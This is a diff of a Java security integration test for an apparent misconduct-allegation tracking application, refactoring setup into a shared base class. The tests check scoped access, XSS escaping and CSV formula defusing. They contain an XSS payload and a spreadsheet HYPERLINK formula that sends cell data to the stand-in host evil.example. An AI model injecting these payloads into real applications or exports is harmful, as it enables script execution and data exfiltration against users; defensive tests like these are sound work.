@@ -2,16 +2,11 @@ package org.blueledger.security.matrix;
 
 import jakarta.json.JsonObject;
 import org.blueledger.testsupport.Api;
-import org.blueledger.testsupport.SharedApplication;
-import org.blueledger.testsupport.SharedApplication.AppUrl;
-import org.blueledger.testsupport.TestDatabase;
+import org.blueledger.testsupport.ClientTest;
 import org.blueledger.testsupport.WebSession;
 import org.junit.jupiter.api.Test;
-import org.junit.jupiter.api.extension.ExtendWith;
 
-import java.net.URL;
 import java.util.LinkedHashMap;
-import java.util.List;
 import java.util.Map;
 import java.util.function.Supplier;
 
@@ -26,16 +21,10 @@ import static org.junit.jupiter.api.Assertions.assertTrue;
  * writes exactly one DENIED entry to the audit trail. Stored script in a summary is shown as
  * text, never run.
  */
-@ExtendWith(TestDatabase.class)
-@ExtendWith(SharedApplication.class)
-class OutOfScopeAccessIT {
-
-    @AppUrl
-    URL url;
+class OutOfScopeAccessIT extends ClientTest {
 
     @Test
     void everyPathToAnotherMissionsCaseAnswers404AndIsAuditedOnce() {
-        Api api = new Api(url);
         String owner = api.newAccount("idor-co", "CONDUCT_OFFICER", "UNMISS", null);
         Api.Response filed = api.post("/api/v1/allegations", """
                 {"mission":"UNMISS","receivedOn":"2021-06-01","kind":"SEA","seaType":"SEXUAL_ABUSE","source":"HOTLINE",
@@ -94,7 +83,6 @@ class OutOfScopeAccessIT {
 
     @Test
     void aStoredScriptInASummaryIsShownAsTextAndNeverRuns() {
-        Api api = new Api(url);
         String officer = api.newAccount("xss-co", "CONDUCT_OFFICER", "UNMISS", null);
         String payload = "<script>alert('x')</script><img src=x onerror=alert(1)>";
         Api.Response filed = api.post("/api/v1/allegations", """
@@ -112,7 +100,6 @@ class OutOfScopeAccessIT {
 
     @Test
     void aFormulaInASummaryIsDefusedInTheCsvExportWhichIsScopedAndAudited() {
-        Api api = new Api(url);
         String officer = api.newAccount("csv-co", "CONDUCT_OFFICER", "UNAMID", null);
         String formula = "=HYPERLINK(\"http://evil.example/\"&A1,\"click\")";
         Api.Response filed = api.post("/api/v1/allegations", """
@@ -139,5 +126,4 @@ class OutOfScopeAccessIT {
         assertEquals(200, r.status(), r.body());
         return r.json().getJsonNumber("total").longValue();
     }
-
 }
